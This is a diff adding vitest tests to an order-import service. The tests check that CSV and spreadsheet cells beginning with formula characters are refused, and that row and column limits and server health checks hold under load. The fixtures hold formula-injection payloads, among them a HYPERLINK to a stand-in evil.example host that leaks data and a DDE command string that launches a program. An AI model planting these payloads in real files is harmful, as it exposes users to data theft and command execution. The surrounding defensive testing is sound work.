@@ -1,7 +1,9 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { genericOrderLines, xlsxBytes } from '../../tests/fixtures/build';
 import { useHarness } from '../../tests/setup/harness';
+import { expectCleanError, tokenFor } from '../../tests/setup/helpers';
 import { parseDate } from './import.service';
 
 const h = useHarness();
@@ -110,6 +112,42 @@ describe('order import', () => {
     expect(await orderCount()).toBe(before);
   });
 
+  it('refuses text a spreadsheet would run as a formula, even behind a space, tab, line break or no-break space, naming the cell; numbers stay numbers', async () => {
+    const token = await tokenFor(h, 'manager');
+    const before = await orderCount();
+    const file = { name: 'injection.csv', bytes: [
+      'Order ref,Customer,Due date,SKU,Quantity,Priority,Notes',
+      'PO-7001," =HYPERLINK(""http://evil.example/?leak=1"",""Click"")",2026-12-10,BRK-100,10,,',
+      'PO-7002,"\t=1+1",2026-12-10,BRK-100,10,,',
+      'PO-7003,"\r\n=1+1",2026-12-10,BRK-100,10,,',
+      'PO-7004,\u00A0@SUM(A1),2026-12-10,BRK-100,10,,',
+      "PO-7005,ACME,2026-12-10,BRK-100,10,,+cmd|' /C calc'!A0",
+      'PO-7006,- ACME,2026-12-10,BRK-100,10,,',
+      'PO-7007,ACME,2026-12-10,BRK-100,-5,+2,-',
+    ].join('\n') };
+    const dry = await upload(token, file);
+    expect(dry.status).toBe(200);
+    const byRef = Object.fromEntries(dry.body.rows.map((r: any) => [r.values.externalRef, r]));
+    const messages = (ref: string) => byRef[ref].errors.map((e: any) => e.message);
+    expect(messages('PO-7001')).toEqual(['cell B2 starts with "=", which a spreadsheet would run as a formula; remove the "="']);
+    expect(messages('PO-7002')).toEqual([expect.stringContaining('cell B3 starts with "="')]);
+    expect(messages('PO-7003')).toEqual([expect.stringContaining('cell B4 starts with "="')]);
+    expect(messages('PO-7004')).toEqual([expect.stringContaining('cell B5 starts with "@"')]);
+    expect(messages('PO-7005')).toEqual([expect.stringContaining('cell G6 starts with "+"')]);
+    expect(messages('PO-7006')).toEqual([expect.stringContaining('cell B7 starts with "-"')]);
+    // The refused text is not echoed back in the preview either.
+    expect(byRef['PO-7001'].values.customerName).toBeNull();
+    // -5 is a number (and too small), +2 a priority, a lone "-" an empty note: none of them is a formula.
+    expect(messages('PO-7007')).toEqual(['"-5" is not a whole number of at least 1']);
+    expect(byRef['PO-7007'].values).toMatchObject({ priority: 2, notes: '-' });
+
+    const xlsx = await xlsxBytes(genericOrderLines(1), (ws) => { ws.getCell('B2').value = ' =HYPERLINK("http://evil.example","x")'; });
+    const commit = await upload(token, { name: 'injection.xlsx', bytes: xlsx }, { commit: true });
+    expect(commit.status).toBe(400);
+    expect(JSON.stringify(commit.body.error.details)).toContain('cell B2 starts with \\"=\\"');
+    expect(await orderCount()).toBe(before);
+  });
+
   it('reads ISO, day-first and month-first dates and Excel serials, and refuses impossible ones', () => {
     expect(parseDate('2026-12-01', 'dmy')).toBe('2026-12-01');
     expect(parseDate('01/12/2026', 'dmy')).toBe('2026-12-01');
@@ -119,3 +157,65 @@ describe('order import', () => {
     expect(parseDate('tomorrow', 'dmy')).toBeNull();
   });
 });
+
+describe('order import: sheet size limits and a server that keeps answering', () => {
+  it('refuses a stray cell at row 1,048,576 with a 400 that names the cell and the row limit, and writes nothing', async () => {
+    const token = await tokenFor(h, 'manager');
+    const before = await orderCount();
+    const bytes = await xlsxBytes(genericOrderLines(3), (ws) => { ws.getCell('C1048576').value = 'stray'; });
+    const r = await upload(token, { name: 'stray.xlsx', bytes }, { commit: true });
+    expect(r.status).toBe(400);
+    expectCleanError(r.body, 'validation_failed');
+    expect(r.body.error.message).toContain('Cell C1048576');
+    expect(r.body.error.message).toContain('rows 1 to 25,000');
+    expect(r.body.error.details).toEqual([{ field: 'file', message: expect.stringContaining('C1048576') }]);
+    expect(await orderCount()).toBe(before);
+  });
+
+  it('refuses a value beyond column 100 in a workbook and in a CSV, naming the cell and the column limit', async () => {
+    const token = await tokenFor(h, 'manager');
+    const wide = await xlsxBytes(genericOrderLines(2), (ws) => { ws.getCell('CW3').value = 'far right'; });
+    const x = await upload(token, { name: 'wide.xlsx', bytes: wide });
+    expect(x.status).toBe(400);
+    expect(x.body.error.code).toBe('validation_failed');
+    expect(x.body.error.message).toContain('Cell CW3');
+    expect(x.body.error.message).toContain('columns A to CV');
+    const csv = genericOrderLines(2).map((r) => r.join(','));
+    csv[1] += ','.repeat(200) + 'far right';
+    const c = await upload(token, { name: 'wide.csv', bytes: csv.join('\n') });
+    expect(c.status).toBe(400);
+    expect(c.body.error.message).toContain('columns A to CV');
+  });
+
+  it('refuses a CSV with a value far below the data, or with more data rows than one import takes, reading no further than row 25,000', async () => {
+    const token = await tokenFor(h, 'manager');
+    const lines = genericOrderLines(2).map((r) => r.join(','));
+    const stray = await upload(token, { name: 'stray.csv', bytes: lines.join('\n') + '\n'.repeat(40_000) + 'stray\n' });
+    expect(stray.status).toBe(400);
+    expect(stray.body.error.message).toContain('rows 1 to 25,000');
+    const many = await upload(token, { name: 'many.csv', bytes: genericOrderLines(20_001).map((r) => r.join(',')).join('\n') });
+    expect(many.status).toBe(400);
+    expect(many.body.error.message).toBe('The sheet has 20,001 data rows; at most 20,000 can be imported at once. Split the file.');
+    const long = await upload(token, { name: 'long.csv', bytes: genericOrderLines(30_000).map((r) => r.join(',')).join('\n') });
+    expect(long.body.error.message).toBe('The sheet has more than 20,000 data rows; at most 20,000 can be imported at once. Split the file.');
+  });
+
+  it('keeps answering /health while a 20,000-line workbook is read, and previews every line of it', async () => {
+    const token = await tokenFor(h, 'manager');
+    const bytes = await xlsxBytes(genericOrderLines(20_000));
+    let settled = false;
+    const pending = upload(token, { name: 'big.xlsx', bytes }).finally(() => { settled = true; });
+    let answeredMeanwhile = 0;
+    while (!settled) {
+      await new Promise((r) => setTimeout(r, 20));
+      const health = await h.app.request('/health');
+      expect(health.status).toBe(200);
+      if (!settled) answeredMeanwhile++;
+    }
+    expect(answeredMeanwhile).toBeGreaterThan(0);
+    const r = await pending;
+    expect(r.status).toBe(200);
+    expect(r.body).toMatchObject({ rowCount: 20_000, errorCount: 0, orders: 5_000 });
+  });
+});
+
